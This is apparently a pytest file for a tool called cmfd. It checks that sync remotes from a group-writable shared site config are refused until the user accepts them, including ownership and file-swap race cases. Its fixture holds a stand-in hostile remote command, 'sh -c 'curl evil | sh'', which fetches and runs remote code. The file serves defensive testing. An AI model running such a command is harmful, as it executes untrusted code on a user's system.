"""Remotes of a site that others write to: nobody's data go where somebody else says."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from cmfd.errors import ConfigError
from cmfd.sync import remotes, trust
from cmfd.sync.remotes import Remote

if TYPE_CHECKING:
    from collections.abc import Callable

    from support.exchange import MakeSite

    from cmfd.merge.layout import Site

EVIL = Remote("hub", "hpc:/project/cmfd", "sh -c 'curl evil | sh'")


@pytest.fixture
def shared(make_site: MakeSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Site:
    """Return a site whose remotes others can write, by a user who accepted nothing so far."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    site = make_site("shared")
    site.path.chmod(0o775)
    remotes.add(site, EVIL)
    Path(site.path / "remotes.toml").chmod(0o664)
    return site


def test_ones_own_remotes_can_be_written_by_nobody_else(shared: Site) -> None:
    """Whatever the rights of the site's directory are."""
    (shared.path / "remotes.toml").unlink()
    remotes.add(shared, EVIL)
    assert (shared.path / "remotes.toml").stat().st_mode & 0o777 == 0o644
    assert remotes.named(shared, "hub") == EVIL


def test_what_others_could_have_written_is_not_used_and_not_made_ones_own(shared: Site) -> None:
    """It is told where it goes and what it runs, and how to accept it; it can be listed."""
    with pytest.raises(ConfigError, match=r"curl evil.*nothing was sent.*cmfd remote accept hub"):
        remotes.named(shared, "hub")
    with pytest.raises(ConfigError, match="nothing was sent"):
        remotes.add(shared, Remote("mine", "/there"))
    assert remotes.all_of(shared) == [EVIL]


def test_what_was_accepted_is_used_until_it_changes(shared: Site) -> None:
    """An address, a command and a token's file are accepted together."""
    remotes.accept(shared, "hub")
    assert remotes.named(shared, "hub") == EVIL
    file = shared.path / "remotes.toml"
    file.write_text(file.read_text().replace("evil", "worse"))
    with pytest.raises(ConfigError, match="curl worse"):
        remotes.named(shared, "hub")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to others")
def test_anothers_file_does_not_count(shared: Site) -> None:
    """Although nobody else can write it."""
    (shared.path / "remotes.toml").chmod(0o644)
    assert remotes.named(shared, "hub") == EVIL
    os.chown(shared.path / "remotes.toml", 12345, -1)
    with pytest.raises(ConfigError, match="is not yours"):
        remotes.named(shared, "hub")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to others")
@pytest.mark.parametrize(
    "act",
    [lambda site: remotes.named(site, "hub"), lambda site: remotes.set_url(site, "hub", "/b")],
)
def test_whose_it_is_is_asked_of_what_was_read(
    shared: Site, act: Callable[[Site], object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who may rename files there puts back, just then, the one that he took away."""
    file = shared.path / "remotes.toml"
    own = file.with_name("own.toml")
    file.rename(own)
    own.chmod(0o644)
    file.write_text(own.read_text().replace("evil", "worse"))
    os.chown(file, 12345, -1)
    check = trust.check

    def swapped(*arguments: Any) -> None:
        if own.exists():
            own.rename(file)
        check(*arguments)

    monkeypatch.setattr(trust, "check", swapped)
    with pytest.raises(ConfigError, match="is not yours"):
        act(shared)


def test_the_command_of_a_remote_can_be_changed(make_site: MakeSite) -> None:
    """With its address; what is not said stays."""
    site = make_site("site")
    remotes.add(site, Remote("hub", "hpc:/a", "cmfd", "/token"))
    remotes.set_url(site, "hub", "hpc:/b", "/opt/cmfd")
    assert remotes.named(site, "hub") == Remote("hub", "hpc:/b", "/opt/cmfd", "/token")
    remotes.set_url(site, "hub", "hpc:/c")
    assert remotes.named(site, "hub") == Remote("hub", "hpc:/c", "/opt/cmfd", "/token")
